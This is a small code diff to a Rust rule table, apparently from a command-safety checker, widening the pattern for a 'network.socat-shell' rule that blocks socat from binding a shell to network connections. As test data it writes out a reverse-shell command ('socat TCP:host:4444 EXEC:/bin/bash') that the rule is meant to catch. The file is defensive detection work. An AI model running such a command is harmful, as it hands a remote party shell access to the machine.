@@ -206,7 +206,7 @@ pub const RULES: &[Rule] = &[
     halt(
         "network.socat-shell",
         RunForeign,
-        "socat %has:exec:|system:|shell: %has:tcp|udp|openssl|vsock|sctp|proxy:|socks",
+        "socat %has:exec:|system:|shell %has:tcp|udp|dccp|listen|openssl|vsock|sctp|proxy:|socks",
         "hands a program to another machine",
         &["socat TCP:host:4444 EXEC:/bin/bash"],
         &["socat TCP:host:1 -"],
